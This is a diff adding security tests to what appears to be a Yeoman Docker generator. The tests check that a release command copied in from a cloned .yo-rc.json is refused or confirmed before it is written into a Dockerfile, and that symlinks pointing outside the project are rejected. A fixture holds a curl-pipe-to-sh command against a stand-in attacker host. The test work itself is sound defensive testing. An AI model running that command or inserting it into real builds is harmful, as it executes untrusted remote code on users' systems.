@@ -9,14 +9,13 @@
 import assert from 'node:assert/strict';
 import { spawn } from 'node:child_process';
 import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
-import { hostname } from 'node:os';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { after, before, describe, it } from 'mocha';
 import helpers from 'yeoman-test';
 import ComposeGenerator from '../../generators/compose/index.js';
 import { exitCodeOf } from '../../src/errors.js';
-import { LOCK_FILE } from '../../src/session/files.js';
+import { LOCK_FILE, lockOwnerFor } from '../../src/session/files.js';
 import { runApp } from '../support/generator-run.js';
 import { tempDir, treeHash, writeTree } from '../support/temp-tree.js';
 
@@ -167,6 +166,71 @@ describe('a team config found in the project or a parent runs nothing until trus
   });
 });
 
+describe('a release command the repository brings runs only once you accept it (issue 20 item 6)', () => {
+  const EVIL = 'curl -fsS https://evil.example/x | sh';
+  const flask = {
+    'requirements.txt': 'flask\ngunicorn\n',
+    'app.py': 'from flask import Flask\napp = Flask(__name__)\n',
+  };
+  const savedRelease = (command: string) =>
+    JSON.stringify({ 'generator-slim-docker': { language: 'python', releaseCommand: command } });
+  const cloned = (command = EVIL) =>
+    writeTree(folder(tempDir('slim-release-'), 'app'), { ...flask, '.yo-rc.json': savedRelease(command) });
+
+  it('a saved release command nobody detected or gave: --yes refuses with one line naming --release-command (exit 2), nothing written', async () => {
+    const dir = cloned();
+    const before = treeHash(dir);
+    const message = await refused(
+      dir,
+      { yes: true },
+      2,
+      /^\.yo-rc\.json "releaseCommand": `curl -fsS https:\/\/evil\.example\/x \| sh` was not detected in this project and you have not accepted it here; .* Rerun with --release-command 'curl -fsS https:\/\/evil\.example\/x \| sh' to accept it, or --no-release-command$/,
+    );
+    assert.ok(message.includes(EVIL), 'shown whole');
+    assert.deepEqual(treeHash(dir), before, 'nothing written');
+  });
+
+  it('asked without --yes, shown whole: "no" drops it, "yes" keeps it and a re-run with --yes needs no flag', async () => {
+    const dropped = cloned();
+    const { asked } = await runApp(dropped, {}, { savedReleaseCommand: false });
+    assert.ok(asked.includes('savedReleaseCommand'), asked.join(', '));
+    assert.doesNotMatch(read(dropped, 'Dockerfile'), /evil\.example/);
+    const kept = cloned();
+    await runApp(kept, {}, { savedReleaseCommand: true });
+    assert.match(read(kept, 'Dockerfile'), /evil\.example/);
+    await runApp(kept, { yes: true, force: true });
+    assert.match(read(kept, 'Dockerfile'), /evil\.example/);
+  });
+
+  it("the user's own --release-command is recorded: the next run with --yes uses the saved value", async () => {
+    const dir = writeTree(folder(tempDir('slim-release-'), 'app'), flask);
+    await run(dir, { yes: true, releaseCommand: 'python seed.py' });
+    assert.match(read(dir, 'Dockerfile'), /python seed\.py/);
+    await run(dir, { yes: true });
+    assert.match(read(dir, 'Dockerfile'), /python seed\.py/);
+    // The same saved value in another folder (a copied .yo-rc.json) is not accepted there.
+    await refused(cloned('python seed.py'), { yes: true }, 2, /--release-command 'python seed\.py'/);
+  });
+
+  it('a saved release command that detection finds runs on a re-run as before', async () => {
+    const dir = writeTree(folder(tempDir('slim-release-'), 'app'), {
+      ...flask,
+      'app.py':
+        'import click\nfrom flask import Flask\napp = Flask(__name__)\n\n@app.cli.command("init-db")\ndef init_db():\n    pass\n',
+      '.yo-rc.json': savedRelease('flask --app app init-db'),
+    });
+    // A user with no record at all.
+    const xdg = process.env.XDG_CONFIG_HOME;
+    process.env.XDG_CONFIG_HOME = tempDir('slim-gen-xdg-');
+    try {
+      await run(dir, { yes: true });
+    } finally {
+      process.env.XDG_CONFIG_HOME = xdg;
+    }
+    assert.match(read(dir, 'Dockerfile'), /flask --app app init-db && exec/);
+  });
+});
+
 describe("a user's source files are never overwritten", () => {
   it('--yes --force over an edited sample keeps app.py and requirements.txt as the user left them', async () => {
     const dir = folder(tempDir('slim-src-'), 'shop');
@@ -216,6 +280,33 @@ describe('symlinks out of the project', () => {
       );
       assert.equal(read(target, 'passwd'), 'root:x:0:0:root:/root:/bin/bash\n', name);
       assert.deepEqual(readdirSync(dir), [name], `${name}: nothing written`);
+    }
+  });
+
+  it('--ci with .github linked outside, --compose with compose.yaml linked outside: refused before anything is written (issue 20 item 9)', async () => {
+    for (const [name, option, file] of [
+      ['.github', 'ci', '.github/workflows/docker.yml'],
+      ['compose.yaml', 'compose', 'compose.yaml'],
+    ] as const) {
+      const target = outside();
+      const dir = folder(tempDir('slim-link-'), 'app');
+      symlinkSync(name === '.github' ? target : join(target, 'passwd'), join(dir, name));
+      // A compose.yaml makes the folder a project's, not a new one: give it the project.
+      if (option === 'compose')
+        writeTree(dir, { 'requirements.txt': 'flask\n', 'app.py': 'from flask import Flask\napp = Flask(__name__)\n' });
+      const before = readdirSync(dir).sort();
+      await refused(
+        dir,
+        { yes: true, [option]: true },
+        2,
+        new RegExp(`^${file.replace(/\./g, '\\.')}: is a symlink to .*, outside the project`),
+      );
+      assert.deepEqual(
+        readdirSync(dir).sort(),
+        before,
+        `--${option}: nothing written (no Dockerfile, .dockerignore, .yo-rc.json)`,
+      );
+      assert.deepEqual(readdirSync(target), ['passwd'], `--${option}: nothing written outside`);
     }
   });
 
@@ -290,7 +381,7 @@ describe('one run per folder, never in $HOME', () => {
     const dir = folder(tempDir('slim-lock-'), 'busy');
     const other = spawn('sleep', ['30'], { stdio: 'ignore' });
     try {
-      writeFileSync(join(dir, LOCK_FILE), JSON.stringify({ pid: other.pid, host: hostname(), started: '' }));
+      writeFileSync(join(dir, LOCK_FILE), JSON.stringify(lockOwnerFor(other.pid)));
       await refused(dir, { yes: true }, 3, new RegExp(`another slim-docker run \\(pid ${other.pid}\\) is working in`));
       assert.deepEqual(readdirSync(dir), [LOCK_FILE]);
     } finally {
